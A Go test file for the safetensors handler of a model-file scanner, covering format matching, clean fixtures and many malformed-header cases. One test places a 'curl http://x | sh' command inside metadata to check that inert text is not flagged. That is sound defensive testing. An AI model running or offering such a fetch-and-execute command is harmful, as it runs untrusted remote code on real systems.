package safetensorsfmt_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/formats/safetensorsfmt"
	"github.com/modelscan-go/modelscan/internal/rules"
	"github.com/modelscan-go/modelscan/internal/scantest"
)

func fixtures(t *testing.T) map[string][]byte {
	t.Helper()
	files, err := filepath.Glob("testdata/*.safetensors")
	if err != nil || len(files) < 5 {
		t.Fatalf("fixtures: %v %v (run testdata/gen.py)", files, err)
	}
	out := map[string][]byte{}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		out[filepath.Base(f)] = data
	}
	return out
}

// The generated fixtures are valid files: routed here by content, scanned,
// nothing reported.
func TestFixturesClean(t *testing.T) {
	for name, data := range fixtures(t) {
		t.Run(name, func(t *testing.T) {
			// a neutral name: routing must come from the content
			s := scan("model.bin.x", data)
			if len(s.Findings) != 0 || len(s.Problems) != 0 || len(s.Skips) != 0 {
				t.Errorf("not clean:\n%s", scantest.Dump(s))
			}
			if len(s.Scanned) != 1 || s.Scanned[0] != "model.bin.x" {
				t.Errorf("scanned %q", s.Scanned)
			}
		})
	}
}

// Metadata is never executed by a safetensors loader: code-like text in a
// valid file is clean, and the file counts as scanned.
func TestCodeLikeMetadataIsClean(t *testing.T) {
	data := valid(map[string]string{"format": "pt", "cmd": "import os; os.system('curl http://x | sh')"}, tt{"w", "F32", []int{2}, f32(2)})
	s := scan("m.safetensors", data)
	if len(s.Findings) != 0 || len(s.Problems) != 0 || len(s.Scanned) != 1 {
		t.Errorf("want clean and scanned:\n%s", scantest.Dump(s))
	}
}

func TestMatch(t *testing.T) {
	h := &safetensorsfmt.Handler{}
	if h.Name() != "safetensors" {
		t.Errorf("name %q", h.Name())
	}
	good := valid(nil, tt{"w", "F32", []int{1}, f32(1)})
	anon := &core.Blob{Name: "x", Size: int64(len(good))}
	named := &core.Blob{Name: "dir/x.SafeTensors", Size: 3}
	cases := []struct {
		head []byte
		b    *core.Blob
		want bool
	}{
		{good, anon, true},
		{raw("{}      ", nil), anon, true},
		{raw(`{ "a":1}`, nil), anon, true},
		{[]byte("\x80\x02}q\x00."), anon, false},
		{raw(`[1,2,3]`, nil), anon, false},
		{raw(`{x}`, nil), anon, false},
		{append([]byte{0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0}, `{"a"`...), anon, false}, // length over the limit
		{[]byte("abc"), named, false},                                                // a name alone: the registry's last resort
		{[]byte("abc"), &core.Blob{Name: "x.safetensors"}, false},                    // empty
		{nil, anon, false},
	}
	for i, c := range cases {
		if got := h.Match(c.head, c.b); got != c.want {
			t.Errorf("case %d: Match = %v", i, got)
		}
	}
}

func TestMalformed(t *testing.T) {
	ok := `"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}`
	cases := []struct {
		name string
		data []byte
		ev   string // evidence of the expected malformed finding
		prob bool   // the analysis stops: a problem is recorded too
	}{
		{"short file", []byte("\x08\x00\x00"), "fewer than the 8-byte header length", true},
		{"header over the limit", append([]byte{1, 0xe1, 0xf5, 0x05, 0, 0, 0, 0}, `{"a":1}`...), "exceeds the loader's limit", true},
		{"header past the end", append([]byte{0x40, 0, 0, 0, 0, 0, 0, 0}, `{"a":1}`...), "runs past the end of the file", true},
		{"invalid JSON", raw(`{"w":{"dtype":"F32",}}`, nil), "not valid JSON", true},
		{"unterminated", raw(`{"w":{"dtype":"F32"`, nil), "ends early", true},
		{"not an object", raw(`["w"]`, nil), "not a JSON object", true},
		{"invalid UTF-8", raw("{\"w\xff\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", f32(2)), "not valid UTF-8", false},
		{"duplicate tensor", raw(`{`+ok+`,`+ok+`}`, f32(2)), `duplicate key "w"`, false},
		{"duplicate field", raw(`{"w":{"dtype":"F32","dtype":"F16","shape":[2],"data_offsets":[0,8]}}`, f32(2)), `duplicate field "dtype"`, false},
		{"metadata not an object", raw(`{"__metadata__":["a"],`+ok+`}`, f32(2)), "__metadata__ is a list", false},
		{"metadata value not a string", raw(`{"__metadata__":{"n":1},`+ok+`}`, f32(2)), `value of "n" is the number 1`, false},
		{"metadata nested object", raw(`{"__metadata__":{"n":{"x":[1]}},`+ok+`}`, f32(2)), `value of "n" is an object`, false},
		{"duplicate metadata key", raw(`{"__metadata__":{"a":"1","a":"2"},`+ok+`}`, f32(2)), `duplicate key "a" in __metadata__`, false},
		{"unknown dtype", raw(`{"w":{"dtype":"F128","shape":[2],"data_offsets":[0,8]}}`, f32(2)), `unknown dtype "F128"`, false},
		{"dtype not a string", raw(`{"w":{"dtype":4,"shape":[2],"data_offsets":[0,8]}}`, f32(2)), "dtype is the number 4", false},
		{"negative dimension", raw(`{"w":{"dtype":"F32","shape":[-2],"data_offsets":[0,8]}}`, f32(2)), "shape holds -2", false},
		{"float dimension", raw(`{"w":{"dtype":"F32","shape":[2.0],"data_offsets":[0,8]}}`, f32(2)), "shape holds 2.0", false},
		{"exponent offset", raw(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8e0]}}`, f32(2)), "data_offsets holds 8e0", false},
		{"huge offset", raw(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,99999999999999999999]}}`, f32(2)), "does not fit 64 bits", false},
		{"shape not a list", raw(`{"w":{"dtype":"F32","shape":2,"data_offsets":[0,8]}}`, f32(2)), "shape is the number 2", false},
		{"three offsets", raw(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8,8]}}`, f32(2)), "data_offsets has 3 entries", false},
		{"end before begin", raw(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}`, f32(2)), "end before they begin", false},
		{"size mismatch", raw(`{"w":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}`, f32(2)), "hold 8 bytes, F32 x [3] needs 12", false},
		{"sub-byte remainder", raw(`{"w":{"dtype":"F4","shape":[3],"data_offsets":[0,2]}}`, f32(1)[:2]), "is 12 bits, not a whole number of bytes", false},
		{"sub-byte F6 size", raw(`{"w":{"dtype":"F6_E2M3","shape":[4],"data_offsets":[0,4]}}`, f32(1)), "F6_E2M3 x [4] needs 3", false},
		{"element overflow", raw(`{"w":{"dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,8]}}`, f32(2)), "more elements than 64 bits can count", false},
		{"byte overflow", raw(`{"w":{"dtype":"U64","shape":[4611686018427387904],"data_offsets":[0,8]}}`, f32(2)), "overflows 64 bits", false},
		{"missing field", raw(`{"w":{"dtype":"F32","shape":[2]}}`, f32(2)), `lacks data_offsets`, false},
		{"unknown field", raw(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"code":"x"}}`, f32(2)), `unknown field "code"`, false},
		{"tensor not an object", raw(`{"w":"F32"}`, nil), `tensor "w" is a string`, false},
		{"gap", raw(`{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[8,12]}}`, f32(3)), "4 bytes at data offset 4 are not part of any tensor", false},
		{"overlap", raw(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}`, f32(2)), `tensor "b" [4, 8] overlaps tensor "a"`, false},
		{"not from zero", raw(`{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}`, f32(2)), "4 bytes at data offset 0", false},
		{"data past the end", raw(`{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, f32(2)), "runs past the end of the file", false},
		{"text after the object", raw(`{`+ok+`} x`, f32(2)), "after the JSON object", false},
		{"too deep", raw(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":`+strings.Repeat("[", 100)+strings.Repeat("]", 100)+`}}`, f32(2)), "nests deeper than", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := scan("x.safetensors", c.data)
			if !has(s, rules.SafetensorsMalformed, core.High, c.ev) {
				t.Errorf("no HIGH %s with %q:\n%s", rules.SafetensorsMalformed, c.ev, scantest.Dump(s))
			}
			for _, f := range s.Findings {
				if f.Scanner != safetensorsfmt.Scanner || f.Source != "x.safetensors" || f.Module != "safetensors" {
					t.Errorf("finding fields: %+v", f)
				}
			}
			if got := len(s.Problems) > 0; got != c.prob {
				t.Errorf("problems %v, want %v:\n%s", got, c.prob, scantest.Dump(s))
			}
			if len(s.Scanned) == 0 || s.Scanned[0] != "x.safetensors" {
				t.Errorf("scanned %q", s.Scanned)
			}
		})
	}
}

// Every violation is reported, not only the first, up to a bound.
func TestAllViolationsReported(t *testing.T) {
	h := `{"__metadata__":{"n":1},"a":{"dtype":"X","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[9],"data_offsets":[4,8]},"a":{"dtype":"F32","shape":[1],"data_offsets":[8,12]}}`
	s := scan("x.safetensors", raw(h, f32(3)))
	for _, ev := range []string{`value of "n"`, `unknown dtype "X"`, "F32 x [9] needs 36", `duplicate key "a"`} {
		if !has(s, rules.SafetensorsMalformed, core.High, ev) {
			t.Errorf("missing %q:\n%s", ev, scantest.Dump(s))
		}
	}
	var parts []string
	for i := 0; i < 40; i++ {
		parts = append(parts, fmt.Sprintf(`"t%d":{"dtype":"Q9","shape":[0],"data_offsets":[0,0]}`, i))
	}
	s = scan("x.safetensors", raw("{"+strings.Join(parts, ",")+"}", nil))
	if n := count(s, rules.SafetensorsMalformed); n != 17 || !has(s, rules.SafetensorsMalformed, core.High, "24 more violations not listed") {
		t.Errorf("%d findings:\n%s", n, scantest.Dump(s))
	}
}
